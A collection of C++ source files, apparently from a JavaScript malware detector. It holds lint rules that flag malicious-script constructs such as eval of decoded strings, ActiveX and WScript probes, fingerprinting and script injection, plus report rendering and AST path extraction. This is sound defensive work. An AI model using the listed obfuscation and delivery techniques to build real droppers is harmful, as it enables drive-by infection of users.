      const std::vector<std::unique_ptr<analysis::ScriptAnalysis>>& scripts,
      std::size_t threads = 0) const;

 private:
  std::vector<std::unique_ptr<Rule>> rules_;
  // Registry handles resolved once at construction (the registry lookup is
  // mutex-guarded; lint() runs on the hot fan-out path). hits_[i] counts the
  // diagnostics rules_[i] produced, labelled {rule=<id>}.
  std::vector<obs::Counter*> hits_;
  obs::Counter* scripts_ = nullptr;
  obs::Counter* parse_failures_ = nullptr;
};

/// Width of the per-script lint summary vector appended to the detector's
/// features when Config::lint_features is on:
///   [malice count, hygiene count, severity-weighted score, distinct rules].
inline constexpr std::size_t kLintFeatureDim =
    static_cast<std::size_t>(kCategoryCount) + 2;

/// Summary vector for one lint result (all zeros on parse failure).
std::vector<double> lint_feature_vector(const LintResult& result);

/// Human-readable names of the summary vector's components.
const std::vector<std::string>& lint_feature_names();

}  // namespace jsrev::lint
