#include "lint/report.h"

#include <array>
#include <cstdio>

#include "util/string_util.h"

namespace jsrev::lint {
namespace {

// JSON string escaping (js_escape is not enough: JSON requires \u00XX for
// every control character).
std::string json_escape(std::string_view s) {
  std::string out;
  out.reserve(s.size() + 2);
  for (const char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x",
                        static_cast<unsigned>(static_cast<unsigned char>(c)));
          out += buf;
        } else {
          out += c;
        }
        break;
    }
  }
  return out;
}

void append_summary_json(const LintResult& r, std::string* out) {
  const std::vector<double> f = lint_feature_vector(r);
  const std::vector<std::string>& names = lint_feature_names();
  *out += "{";
  for (std::size_t i = 0; i < f.size(); ++i) {
    if (i != 0) *out += ",";
    *out += "\"" + names[i] + "\":" + fmt(f[i], 1);
  }
  *out += "}";
}

}  // namespace

std::string render_text(const std::vector<NamedResult>& results) {
  std::string out;
  std::array<std::size_t, kSeverityCount> totals{};
  std::size_t parse_failures = 0;
  for (const NamedResult& nr : results) {
    if (nr.result.parse_failed) {
      parse_failures++;
      out += nr.name + ": parse error: " + nr.result.parse_error + "\n";
      continue;
    }
    for (const Diagnostic& d : nr.result.diagnostics) {
      totals[static_cast<std::size_t>(d.severity)]++;
      out += nr.name + ":" + std::to_string(d.line) + ": " +
             std::string(severity_name(d.severity)) + " [" + d.rule_id + "/" +
             d.rule_name + "] " + d.message;
      if (!d.excerpt.empty()) out += "\n    " + d.excerpt;
      out += "\n";
    }
  }
  out += "\n" + std::to_string(results.size()) + " input(s), " +
         std::to_string(parse_failures) + " parse failure(s), " +
         std::to_string(totals[2]) + " error(s), " +
         std::to_string(totals[1]) + " warning(s), " +
         std::to_string(totals[0]) + " info\n";
  return out;
}

std::string render_json(const std::vector<NamedResult>& results) {
  std::string out = "{\"inputs\":[";
  std::array<std::size_t, kSeverityCount> totals{};
  std::size_t parse_failures = 0;
  for (std::size_t i = 0; i < results.size(); ++i) {
    const NamedResult& nr = results[i];
    if (i != 0) out += ",";
    out += "{\"name\":\"" + json_escape(nr.name) + "\",\"parse_failed\":";
    out += nr.result.parse_failed ? "true" : "false";
    if (nr.result.parse_failed) {
      parse_failures++;
      out += ",\"parse_error\":\"" + json_escape(nr.result.parse_error) + "\"";
    }
    out += ",\"diagnostics\":[";
    for (std::size_t j = 0; j < nr.result.diagnostics.size(); ++j) {
      const Diagnostic& d = nr.result.diagnostics[j];
      totals[static_cast<std::size_t>(d.severity)]++;
      if (j != 0) out += ",";
      out += "{\"rule_id\":\"" + json_escape(d.rule_id) + "\"";
      out += ",\"rule_name\":\"" + json_escape(d.rule_name) + "\"";
      out += ",\"severity\":\"" + std::string(severity_name(d.severity)) + "\"";
      out += ",\"category\":\"" + std::string(category_name(d.category)) + "\"";
      out += ",\"line\":" + std::to_string(d.line);
      out += ",\"node_kind\":\"" + json_escape(d.node_kind) + "\"";
      out += ",\"message\":\"" + json_escape(d.message) + "\"";
      out += ",\"excerpt\":\"" + json_escape(d.excerpt) + "\"}";
    }
    out += "],\"summary\":";
    append_summary_json(nr.result, &out);
    out += "}";
  }
  out += "],\"totals\":{\"inputs\":" + std::to_string(results.size());
  out += ",\"parse_failures\":" + std::to_string(parse_failures);
  out += ",\"errors\":" + std::to_string(totals[2]);
  out += ",\"warnings\":" + std::to_string(totals[1]);
  out += ",\"infos\":" + std::to_string(totals[0]);
  out += "}}";
  return out;
}

}  // namespace jsrev::lint
