// Malice-indicator rules (M01-M10).
//
// Each rule targets a construct that survives obfuscation (JSForce; "From
// Obfuscated to Obvious"): dynamic code evaluation, decode-then-execute
// chains, payload-carrying literals, environment probes. Severity encodes
// how strongly the construct correlates with malicious payload delivery.
#include <algorithm>
#include <cctype>
#include <unordered_set>

#include "js/visitor.h"
#include "lint/ast_match.h"
#include "lint/registry.h"
#include "lint/rule.h"

namespace jsrev::lint {
namespace {

using js::Node;
using js::NodeKind;

// M01: eval / execScript whose argument is not a plain string literal —
// the canonical unpacking entry point; a literal argument is almost always
// an analytics shim or test fixture, so only computed arguments fire.
class EvalNonLiteralRule final : public Rule {
 public:
  EvalNonLiteralRule()
      : Rule("M01", "eval-non-literal", Severity::kError, Category::kMalice,
             "eval/execScript with a computed (non-literal) argument") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    js::walk_all(ctx.program, [&](const Node* n) {
      if (n->kind != NodeKind::kCallExpression) return;
      const Node* callee = callee_of(n);
      if (callee == nullptr || callee->kind != NodeKind::kIdentifier) return;
      if (callee->str != "eval" && callee->str != "execScript") return;
      const Node* arg = first_arg_of(n);
      if (arg == nullptr || is_literal(arg)) return;
      out->push_back(diag(n, callee->str + " of a computed expression"));
    });
  }
};

// M02: the Function constructor — compiles strings to code like eval but
// is rarely caught by naive eval filters.
class FunctionConstructorRule final : public Rule {
 public:
  FunctionConstructorRule()
      : Rule("M02", "function-constructor", Severity::kError, Category::kMalice,
             "Function constructor compiling strings into code") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    js::walk_all(ctx.program, [&](const Node* n) {
      if (!is_call_like(n)) return;
      if (!is_identifier(callee_of(n), "Function")) return;
      if (n->children.size() < 2) return;  // Function() without body arg
      out->push_back(diag(n, "Function constructor invocation"));
    });
  }
};

// M03: data-flow chain from a decode call into an exec sink: the variable is
// written with atob/unescape/... output and a later read of the same
// variable feeds eval/Function/setTimeout/document.write.
class DecodeThenExecuteRule final : public Rule {
 public:
  DecodeThenExecuteRule()
      : Rule("M03", "decode-then-execute", Severity::kError, Category::kMalice,
             "decoded string flows into a code-execution sink "
             "(via data-flow edges)") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    if (ctx.dataflow == nullptr) return;
    // One diagnostic per sink call, not per edge.
    std::unordered_set<const Node*> reported;
    for (const auto& edge : ctx.dataflow->edges()) {
      if (!write_is_decoded(edge.def)) continue;
      const Node* sink = enclosing_exec_sink(edge.use);
      if (sink == nullptr || !reported.insert(sink).second) continue;
      out->push_back(diag(
          sink, "'" + edge.def->str + "' holds decoded data and reaches an "
                                      "execution sink"));
    }
  }

 private:
  friend class DocumentWriteDecodedRule;

  // The write site's assigned value is (or contains) a decoder call:
  // `var x = atob(...)`, `x = unescape(...) + tail`.
  static bool write_is_decoded(const Node* def) {
    const Node* value = assigned_value_of(def);
    if (value == nullptr) return false;
    bool found = false;
    js::walk_all(value, [&found](const Node* n) {
      if (is_decoder_call(n)) found = true;
    });
    return found;
  }
};

// M04: document.write / writeln whose argument contains decoded data —
// the classic drive-by injection vector.
class DocumentWriteDecodedRule final : public Rule {
 public:
  DocumentWriteDecodedRule()
      : Rule("M04", "document-write-decoded", Severity::kWarning,
             Category::kMalice,
             "document.write of decoded or assembled data") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    js::walk_all(ctx.program, [&](const Node* n) {
      if (n->kind != NodeKind::kCallExpression) return;
      const Node* callee = callee_of(n);
      if (!is_member(callee, "document", "write") &&
          !is_member(callee, "document", "writeln")) {
        return;
      }
      for (std::size_t i = 1; i < n->children.size(); ++i) {
        bool decoded = false;
        js::walk_all(n->children[i], [&](const Node* c) {
          if (is_decoder_call(c)) decoded = true;
          // Flow-linked identifiers whose chain includes a decode also count.
          if (c->kind == NodeKind::kIdentifier && ctx.dataflow != nullptr &&
              ctx.dataflow->has_dependency(c)) {
            for (const auto& edge : ctx.dataflow->edges()) {
              if (edge.use == c && DecodeThenExecuteRule::write_is_decoded(edge.def)) {
                decoded = true;
              }
            }
          }
        });
        if (decoded) {
          out->push_back(diag(n, "document.write of decoded data"));
          return;
        }
      }
    });
  }
};

// M05: long single-charset string literals (pure hex or base64 alphabet,
// no whitespace) — encoded payload carriers.
class LongEncodedLiteralRule final : public Rule {
 public:
  LongEncodedLiteralRule()
      : Rule("M05", "long-encoded-literal", Severity::kWarning,
             Category::kMalice,
             "long hex/base64-alphabet string literal (payload carrier)") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    js::walk_all(ctx.program, [&](const Node* n) {
      if (!is_string_literal(n) || n->str.size() < kMinLength) return;
      if (looks_hex(n->str) || looks_base64(n->str)) {
        out->push_back(diag(
            n, "string literal of " + std::to_string(n->str.size()) +
                   " chars drawn from an encoded alphabet"));
      }
    });
  }

 private:
  static constexpr std::size_t kMinLength = 48;

  static bool looks_hex(const std::string& s) {
    return std::all_of(s.begin(), s.end(), [](unsigned char c) {
      return std::isxdigit(c) != 0 || c == '%' || c == '\\' || c == 'x';
    });
  }

  static bool looks_base64(const std::string& s) {
    return std::all_of(s.begin(), s.end(), [](unsigned char c) {
      return std::isalnum(c) != 0 || c == '+' || c == '/' || c == '=';
    });
  }
};

// M06: loops assembling strings from character codes
// (String.fromCharCode / charCodeAt inside a loop body).
class CharcodeAssemblyRule final : public Rule {
 public:
  CharcodeAssemblyRule()
      : Rule("M06", "charcode-assembly", Severity::kWarning, Category::kMalice,
             "loop assembling a string from character codes") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    js::walk(ctx.program, [&](const Node* n) {
      if (!is_loop(n)) return true;
      bool uses_charcode = false;
      js::walk_all(n, [&uses_charcode](const Node* c) {
        const Node* callee = callee_of(c);
        if (callee == nullptr) return;
        if (is_member(callee, "String", "fromCharCode") ||
            is_member_prop(callee, "fromCharCode") ||
            is_member_prop(callee, "charCodeAt")) {
          uses_charcode = true;
        }
      });
      if (uses_charcode) {
        out->push_back(diag(n, "character-code assembly inside a loop"));
        return false;  // don't double-report nested loops
      }
      return true;
    });
  }

 private:
  static bool is_loop(const Node* n) {
    return n->kind == NodeKind::kForStatement ||
           n->kind == NodeKind::kForInStatement ||
           n->kind == NodeKind::kWhileStatement ||
           n->kind == NodeKind::kDoWhileStatement;
  }
};

// M07: ActiveX / Windows-Script-Host object construction — the dropper
// family's system-access probe; never appears in benign web scripts.
class ActiveXProbeRule final : public Rule {
 public:
  ActiveXProbeRule()
      : Rule("M07", "activex-probe", Severity::kError, Category::kMalice,
             "ActiveXObject / WScript host-object access") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    for (const auto& sym : ctx.scopes->symbols()) {
      if (!sym->is_global_implicit) continue;
      if (sym->name != "ActiveXObject" && sym->name != "WScript" &&
          sym->name != "GetObject") {
        continue;
      }
      if (sym->references.empty()) continue;
      out->push_back(diag(sym->references.front(),
                          "reference to host object '" + sym->name + "'"));
    }
  }
};

// M08: environment fingerprinting — two or more distinct navigator/screen
// probes in one script (UA sniffing for exploit targeting).
class EnvFingerprintRule final : public Rule {
 public:
  EnvFingerprintRule()
      : Rule("M08", "env-fingerprinting", Severity::kInfo, Category::kMalice,
             "multiple navigator/screen environment probes") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    static const std::unordered_set<std::string> kNavProps = {
        "userAgent", "platform", "appVersion", "appName", "language",
        "plugins",   "vendor"};
    static const std::unordered_set<std::string> kScreenProps = {
        "width", "height", "colorDepth", "availWidth", "availHeight"};
    std::unordered_set<std::string> probes;
    const Node* first = nullptr;
    js::walk_all(ctx.program, [&](const Node* n) {
      if (n->kind != NodeKind::kMemberExpression ||
          n->has_flag(Node::kComputed)) {
        return;
      }
      const Node* obj = n->children[0];
      const Node* prop = n->children[1];
      if (prop->kind != NodeKind::kIdentifier) return;
      const bool nav = is_identifier(obj, "navigator") &&
                       kNavProps.count(prop->str) != 0;
      const bool scr =
          is_identifier(obj, "screen") && kScreenProps.count(prop->str) != 0;
      if (!nav && !scr) return;
      if (probes.insert(obj->str + "." + prop->str).second && first == nullptr) {
        first = n;
      }
    });
    if (probes.size() >= 2) {
      out->push_back(diag(first, std::to_string(probes.size()) +
                                     " distinct environment probes"));
    }
  }
};

// M09: setTimeout / setInterval with a string first argument — implicit eval.
class TimerStringEvalRule final : public Rule {
 public:
  TimerStringEvalRule()
      : Rule("M09", "timer-string-eval", Severity::kError, Category::kMalice,
             "setTimeout/setInterval with a string argument (implicit eval)") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    js::walk_all(ctx.program, [&](const Node* n) {
      if (n->kind != NodeKind::kCallExpression) return;
      const Node* callee = callee_of(n);
      bool timer = false;
      std::string name;
      if (callee != nullptr && callee->kind == NodeKind::kIdentifier &&
          (callee->str == "setTimeout" || callee->str == "setInterval")) {
        timer = true;
        name = callee->str;
      } else if (is_member_prop(callee, "setTimeout") ||
                 is_member_prop(callee, "setInterval")) {
        timer = true;
        name = callee->children[1]->str;
      }
      if (!timer) return;
      const Node* arg = first_arg_of(n);
      if (arg == nullptr) return;
      if (is_string_literal(arg) || is_string_concat(arg)) {
        out->push_back(diag(n, name + " evaluating a string"));
      }
    });
  }

 private:
  // `"code" + x` style concatenations also reach the implicit eval.
  static bool is_string_concat(const Node* n) {
    if (n->kind != NodeKind::kBinaryExpression || n->str != "+") return false;
    bool has_string = false;
    js::walk_all(n, [&has_string](const Node* c) {
      if (is_string_literal(c)) has_string = true;
    });
    return has_string;
  }
};

// M10: dynamic script/iframe element injection via createElement.
class ScriptInjectionRule final : public Rule {
 public:
  ScriptInjectionRule()
      : Rule("M10", "script-injection", Severity::kWarning, Category::kMalice,
             "dynamic creation of script/iframe elements") {}

  void run(const LintContext& ctx, std::vector<Diagnostic>* out) const override {
    js::walk_all(ctx.program, [&](const Node* n) {
      if (n->kind != NodeKind::kCallExpression) return;
      if (!is_member_prop(callee_of(n), "createElement")) return;
      const Node* arg = first_arg_of(n);
      if (!is_string_literal(arg)) return;
      std::string tag = arg->str;
      std::transform(tag.begin(), tag.end(), tag.begin(),
                     [](unsigned char c) { return std::tolower(c); });
      if (tag == "script" || tag == "iframe" || tag == "embed" ||
          tag == "object") {
        out->push_back(diag(n, "createElement(\"" + tag + "\")"));
      }
    });
  }
};

}  // namespace

void append_malice_rules(std::vector<std::unique_ptr<Rule>>* rules) {
  rules->push_back(std::make_unique<EvalNonLiteralRule>());
  rules->push_back(std::make_unique<FunctionConstructorRule>());
  rules->push_back(std::make_unique<DecodeThenExecuteRule>());
  rules->push_back(std::make_unique<DocumentWriteDecodedRule>());
  rules->push_back(std::make_unique<LongEncodedLiteralRule>());
  rules->push_back(std::make_unique<CharcodeAssemblyRule>());
  rules->push_back(std::make_unique<ActiveXProbeRule>());
  rules->push_back(std::make_unique<EnvFingerprintRule>());
  rules->push_back(std::make_unique<TimerStringEvalRule>());
  rules->push_back(std::make_unique<ScriptInjectionRule>());
}

}  // namespace jsrev::lint
