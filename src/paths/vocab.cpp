#include "paths/vocab.h"

#include <istream>
#include <ostream>

#include "util/serialize.h"

namespace jsrev::paths {

void PathVocab::save(std::ostream& out) const {
  ser::write_tag(out, "VOCB");
  ser::write_u64(out, keys_.size());
  for (std::size_t i = 0; i < keys_.size(); ++i) {
    const PathContext& rep = representative_[i];
    ser::write_string(out, rep.source_value);
    ser::write_string(out, rep.path);
    ser::write_string(out, rep.target_value);
  }
}

void PathVocab::load(std::istream& in) {
  ser::expect_tag(in, "VOCB");
  const std::uint64_t n = ser::read_u64(in);
  index_.clear();
  keys_.clear();
  representative_.clear();
  keys_.reserve(n);
  representative_.reserve(n);
  for (std::uint64_t i = 0; i < n; ++i) {
    PathContext pc;
    pc.source_value = ser::read_string(in);
    pc.path = ser::read_string(in);
    pc.target_value = ser::read_string(in);
    const std::int32_t id = add(pc);
    if (static_cast<std::uint64_t>(id) != i) {
      throw ser::FormatError("vocabulary contains duplicate path keys");
    }
  }
}

}  // namespace jsrev::paths
