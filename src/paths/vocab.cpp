#include "paths/vocab.h"

#include <istream>
#include <limits>
#include <ostream>
#include <stdexcept>

#include "util/serialize.h"

namespace jsrev::paths {

namespace {
// Probe table sized to keep load factor <= 0.5 (power of two for mask math).
std::size_t table_size_for(std::size_t entries) {
  std::size_t slots = 16;
  while (slots < entries * 2) slots <<= 1;
  return slots;
}
}  // namespace

void PathVocab::insert_into_table(std::uint32_t id) {
  const std::uint32_t mask = static_cast<std::uint32_t>(table_.size()) - 1;
  std::uint32_t probe = static_cast<std::uint32_t>(entries_[id].hash) & mask;
  while (table_[probe] != 0) probe = (probe + 1) & mask;
  table_[probe] = id + 1;
}

void PathVocab::rehash(std::size_t min_slots) {
  table_.assign(table_size_for(min_slots), 0);
  for (std::uint32_t id = 0; id < entries_.size(); ++id) {
    insert_into_table(id);
  }
}

std::int32_t PathVocab::add(const PathContext& pc) {
  const std::int32_t existing = lookup(pc);
  if (existing != kUnknown) return existing;

  const std::size_t key_len =
      pc.source_value.size() + pc.path.size() + pc.target_value.size() + 2;
  if (blob_.size() + key_len > std::numeric_limits<std::uint32_t>::max()) {
    throw std::length_error("PathVocab: key blob exceeds 4 GiB");
  }

  VocabEntryRec e;
  e.hash = PathVocabView::hash_of(pc);
  e.offset = static_cast<std::uint32_t>(blob_.size());
  e.length = static_cast<std::uint32_t>(key_len);
  e.source_len = static_cast<std::uint32_t>(pc.source_value.size());
  e.path_len = static_cast<std::uint32_t>(pc.path.size());
  blob_.append(pc.source_value);
  blob_.push_back('|');
  blob_.append(pc.path);
  blob_.push_back('|');
  blob_.append(pc.target_value);

  const auto id = static_cast<std::uint32_t>(entries_.size());
  entries_.push_back(e);
  if (table_.empty() || entries_.size() * 2 > table_.size()) {
    rehash(entries_.size());
  } else {
    insert_into_table(id);
  }
  return static_cast<std::int32_t>(id);
}

void PathVocab::save(std::ostream& out) const {
  ser::write_tag(out, "VOCB");
  ser::write_u64(out, entries_.size());
  const PathVocabView v = view();
  for (std::size_t i = 0; i < entries_.size(); ++i) {
    const auto id = static_cast<std::int32_t>(i);
    ser::write_string(out, std::string(v.source_value(id)));
    ser::write_string(out, std::string(v.path_value(id)));
    ser::write_string(out, std::string(v.target_value(id)));
  }
}

void PathVocab::load(std::istream& in) {
  ser::expect_tag(in, "VOCB");
  const std::uint64_t n = ser::read_u64(in);
  blob_.clear();
  entries_.clear();
  table_.clear();
  entries_.reserve(n);
  for (std::uint64_t i = 0; i < n; ++i) {
    PathContext pc;
    pc.source_value = ser::read_string(in);
    pc.path = ser::read_string(in);
    pc.target_value = ser::read_string(in);
    const std::int32_t id = add(pc);
    if (static_cast<std::uint64_t>(id) != i) {
      throw ser::FormatError("vocabulary contains duplicate path keys");
    }
  }
}

}  // namespace jsrev::paths
