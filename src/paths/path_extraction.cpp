#include "paths/path_extraction.h"

#include <algorithm>
#include <cmath>
#include <cstdio>

#include "js/visitor.h"
#include "obs/metrics.h"
#include "obs/trace.h"

namespace jsrev::paths {
namespace {

using js::LiteralType;
using js::Node;
using js::NodeKind;

/// Syntactic type indicator for a leaf without data dependencies.
std::string type_indicator(const Node* leaf) {
  if (leaf->kind == NodeKind::kLiteral) {
    switch (leaf->lit) {
      case LiteralType::kString: return "@var_str";
      case LiteralType::kNumber: {
        const double v = leaf->num;
        return v == std::floor(v) ? "@var_int" : "@var_num";
      }
      case LiteralType::kBoolean: return "@var_bool";
      case LiteralType::kNull: return "@var_null";
      case LiteralType::kRegex: return "@var_re";
      case LiteralType::kNone: return "@var_null";
    }
  }
  if (leaf->kind == NodeKind::kThisExpression) return "@this";
  if (leaf->kind == NodeKind::kIdentifier) {
    // Without flow information the best static abstraction is a generic
    // variable tag; member property names get their own tag since they are
    // structurally different from variables.
    const Node* p = leaf->parent;
    if (p != nullptr && p->kind == NodeKind::kMemberExpression &&
        !p->has_flag(Node::kComputed) && p->children.size() == 2 &&
        p->children[1] == leaf) {
      return "@prop";
    }
    return "@var";
  }
  // Structural leaves (empty blocks, empty statements, ...).
  return std::string("@") + std::string(js::node_kind_name(leaf->kind));
}

/// Raw leaf value as code2vec uses (the "regular AST" ablation): the
/// concrete identifier name or literal text. Long strings truncate.
std::string raw_value(const Node* leaf) {
  switch (leaf->kind) {
    case NodeKind::kIdentifier:
      return leaf->str;
    case NodeKind::kThisExpression:
      return "this";
    case NodeKind::kLiteral:
      switch (leaf->lit) {
        case LiteralType::kString:
          return leaf->str.size() <= 16 ? leaf->str : leaf->str.substr(0, 16);
        case LiteralType::kNumber: {
          char buf[32];
          std::snprintf(buf, sizeof buf, "%g", leaf->num);
          return buf;
        }
        case LiteralType::kBoolean:
          return leaf->bval ? "true" : "false";
        case LiteralType::kNull:
          return "null";
        case LiteralType::kRegex:
          return leaf->str;
        case LiteralType::kNone:
          return "null";
      }
      return "?";
    default:
      return std::string(js::node_kind_name(leaf->kind));
  }
}

struct LeafInfo {
  const Node* node;
  std::string value;
  // Ancestor chain from the leaf to the root (inclusive), leaf first.
  std::vector<const Node*> ancestors;
  // Child index within each ancestor (slot of the chain's previous element).
  std::vector<int> child_index;
};

int index_of_child(const Node* parent, const Node* child) {
  for (std::size_t i = 0; i < parent->children.size(); ++i) {
    if (parent->children[i] == child) return static_cast<int>(i);
  }
  return -1;
}

}  // namespace

std::string leaf_value(const js::Node* leaf,
                       const analysis::DataFlowInfo* dataflow) {
  if (dataflow != nullptr && leaf->kind == NodeKind::kIdentifier &&
      dataflow->canonical_index(leaf) >= 0) {
    // Flow-linked leaf considered in isolation: tagged as linked. When a
    // whole path is rendered, extract_paths refines this into @vs (both
    // endpoints are the same symbol) / @va+@vb (two different linked
    // symbols) — see the note there.
    return "@vl";
  }
  return type_indicator(leaf);
}

std::vector<PathContext> extract_paths(const js::Node* program,
                                       const analysis::DataFlowInfo* dataflow,
                                       const PathConfig& cfg) {
  obs::Span span("paths.extract", "paths");
  // Collect leaves in source order together with their ancestor chains.
  std::vector<LeafInfo> leaves;
  for (const Node* leaf : js::leaves(program)) {
    LeafInfo info;
    info.node = leaf;
    // Enhanced AST: abstracted values with flow-link refinement below.
    // Regular-AST ablation: raw code2vec-style leaf values (the paper's
    // Table IV shows this variant collapsing, FPR-first).
    info.value = cfg.use_dataflow
                     ? leaf_value(leaf, dataflow)
                     : raw_value(leaf);
    const Node* cur = leaf;
    while (cur != nullptr) {
      info.ancestors.push_back(cur);
      if (cur->parent != nullptr) {
        info.child_index.push_back(index_of_child(cur->parent, cur));
      }
      cur = cur->parent;
    }
    leaves.push_back(std::move(info));
  }

  std::vector<PathContext> out;
  const std::size_t n = leaves.size();

  for (std::size_t i = 0; i < n && out.size() < cfg.max_paths; ++i) {
    for (std::size_t j = i + 1; j < n && out.size() < cfg.max_paths; ++j) {
      const LeafInfo& a = leaves[i];
      const LeafInfo& b = leaves[j];

      // Find the lowest common ancestor by walking both chains from the root
      // (node ids are preorder, so chains end at the same root).
      std::size_t ai = a.ancestors.size();
      std::size_t bi = b.ancestors.size();
      while (ai > 0 && bi > 0 && a.ancestors[ai - 1] == b.ancestors[bi - 1]) {
        --ai;
        --bi;
      }
      // a.ancestors[ai] is the first divergent node; LCA is at ai (shared).
      const std::size_t lca_a = ai;  // number of up-steps from a to LCA
      const std::size_t lca_b = bi;

      // Path length in nodes: up-chain (lca_a), LCA itself, down-chain.
      const int length = static_cast<int>(lca_a + lca_b + 1);
      if (length > cfg.max_length) continue;

      // Width: child-index distance between the two subtrees at the LCA.
      // When one leaf is an ancestor of the other (degenerate), width is 0.
      int width = 0;
      if (lca_a > 0 && lca_b > 0) {
        const int ca = a.child_index[lca_a - 1];
        const int cb = b.child_index[lca_b - 1];
        width = std::abs(ca - cb);
      }
      if (width > cfg.max_width) continue;

      PathContext pc;
      pc.source_leaf = a.node;
      pc.target_leaf = b.node;
      pc.source_value = a.value;
      pc.target_value = b.value;
      // Flow-linked endpoint refinement. The paper preserves the concrete
      // name on flow-linked leaves so related paths carry a shared value.
      // Raw names are rename-fragile and any per-script numbering shifts
      // when obfuscators prepend machinery, so we encode the
      // position-independent essence instead: whether the path's two
      // endpoints are the SAME flow-linked symbol (@vs ... @vs) or two
      // DIFFERENT ones (@va ... @vb).
      if (cfg.use_dataflow && dataflow != nullptr) {
        const int sa = a.node->kind == NodeKind::kIdentifier
                           ? dataflow->canonical_index(a.node)
                           : -1;
        const int sb = b.node->kind == NodeKind::kIdentifier
                           ? dataflow->canonical_index(b.node)
                           : -1;
        if (sa >= 0 && sb >= 0) {
          if (sa == sb) {
            pc.source_value = "@vs";
            pc.target_value = "@vs";
          } else {
            pc.source_value = "@va";
            pc.target_value = "@vb";
          }
        }
      }

      // Render: leafKind ^ ... ^ LCA v ... v leafKind.
      std::string& path = pc.path;
      for (std::size_t k = 0; k < lca_a; ++k) {
        path += js::node_kind_name(a.ancestors[k]->kind);
        path += '^';
      }
      path += js::node_kind_name(a.ancestors[lca_a]->kind);  // the LCA
      for (std::size_t k = lca_b; k > 0; --k) {
        path += 'v';
        path += js::node_kind_name(b.ancestors[k - 1]->kind);
      }
      out.push_back(std::move(pc));
    }
  }
  // Workload-invariant accounting: total path volume plus the per-script
  // distribution (how many scripts land in each size band). Both counts are
  // pure functions of the corpus, so they live in the deterministic export.
  static obs::Counter* extracted = obs::metrics().counter("paths.extracted");
  static obs::Histogram* per_script = obs::metrics().histogram(
      "paths.per_script",
      {1, 2, 5, 10, 20, 50, 100, 200, 500, 1000, 2000, 5000});
  extracted->add(out.size());
  per_script->observe(static_cast<double>(out.size()));
  return out;
}

}  // namespace jsrev::paths
