// AST path-context extraction over the (enhanced) AST.
//
// A path is a triple <x_s, n_1..n_k, x_t> between two AST leaves, where the
// middle is the node-kind sequence along the tree walk from one leaf up to
// the lowest common ancestor and down to the other leaf (with direction
// markers). Limits: maximum path length (node count, default 12) and maximum
// width (child-index distance at the common ancestor, default 4), following
// code2vec and the paper.
//
// Leaf values:
//  * identifier leaves that participate in a data-dependency edge keep their
//    concrete name (so two paths sharing a flow collide on the value);
//  * all other leaves are abstracted to indicators: `@var_str`, `@var_int`,
//    `@var_num`, `@var_bool`, `@var_re`, `@var_null`, `@var_obj`, or the
//    literal's type tag (`@lit_str` etc. become the same @var_ tags to keep
//    the vocabulary small, matching the paper's examples which use @var_*
//    for both).
//
// When `use_dataflow` is disabled ("regular AST" ablation in Table IV), every
// leaf is abstracted by syntactic type only.
#pragma once

#include <string>
#include <vector>

#include "analysis/dataflow.h"
#include "js/ast.h"

namespace jsrev::paths {

struct PathConfig {
  int max_length = 12;  // maximum nodes along the path (k)
  int max_width = 4;    // maximum child-index distance at the top node
  bool use_dataflow = true;  // enhanced AST (false = regular-AST ablation)
  std::size_t max_paths = 20000;  // safety cap per script
};

struct PathContext {
  std::string source_value;  // x_s
  std::string path;          // n_1 ↑ ... ↓ n_k rendered as a string
  std::string target_value;  // x_t
  const js::Node* source_leaf = nullptr;
  const js::Node* target_leaf = nullptr;

  /// Canonical single-string form "x_s|path|x_t" used as the vocabulary key.
  std::string key() const { return source_value + "|" + path + "|" + target_value; }
};

/// Abstracted value for a leaf (used for both endpoints). Public for tests.
std::string leaf_value(const js::Node* leaf,
                       const analysis::DataFlowInfo* dataflow);

/// Extracts the path contexts of a finalized AST. `dataflow` may be null
/// when cfg.use_dataflow is false.
std::vector<PathContext> extract_paths(const js::Node* program,
                                       const analysis::DataFlowInfo* dataflow,
                                       const PathConfig& cfg = {});

}  // namespace jsrev::paths
