// Path vocabulary: maps canonical path-context strings to dense indices.
//
// The embedding model's input is (conceptually) a one-hot vector over this
// vocabulary, so W·p_i reduces to an embedding-column lookup. The vocabulary
// also keeps one representative PathContext per entry — the inverse index
// that powers the Table VII interpretability report (cluster center → the
// human-readable central path).
#pragma once

#include <cstdint>
#include <iosfwd>
#include <optional>
#include <string>
#include <unordered_map>
#include <vector>

#include "paths/path_extraction.h"

namespace jsrev::paths {

class PathVocab {
 public:
  static constexpr std::int32_t kUnknown = -1;

  /// Interns a path key; grows the vocabulary (training-time use).
  std::int32_t add(const PathContext& pc) {
    const std::string k = pc.key();
    const auto it = index_.find(k);
    if (it != index_.end()) return it->second;
    const auto id = static_cast<std::int32_t>(keys_.size());
    index_.emplace(k, id);
    keys_.push_back(k);
    representative_.push_back({pc.source_value, pc.path, pc.target_value,
                               nullptr, nullptr});
    return id;
  }

  /// Looks up without growing (inference-time use). kUnknown if absent.
  std::int32_t lookup(const PathContext& pc) const {
    const auto it = index_.find(pc.key());
    return it == index_.end() ? kUnknown : it->second;
  }

  std::size_t size() const { return keys_.size(); }

  const std::string& key(std::int32_t id) const { return keys_[id]; }

  /// Representative context for a vocabulary entry (leaf pointers unset).
  const PathContext& representative(std::int32_t id) const {
    return representative_[id];
  }

  /// Vocabulary persistence (entries in id order).
  void save(std::ostream& out) const;
  void load(std::istream& in);

 private:
  std::unordered_map<std::string, std::int32_t> index_;
  std::vector<std::string> keys_;
  std::vector<PathContext> representative_;
};

}  // namespace jsrev::paths
