// Path vocabulary: maps canonical path-context strings to dense indices.
//
// The embedding model's input is (conceptually) a one-hot vector over this
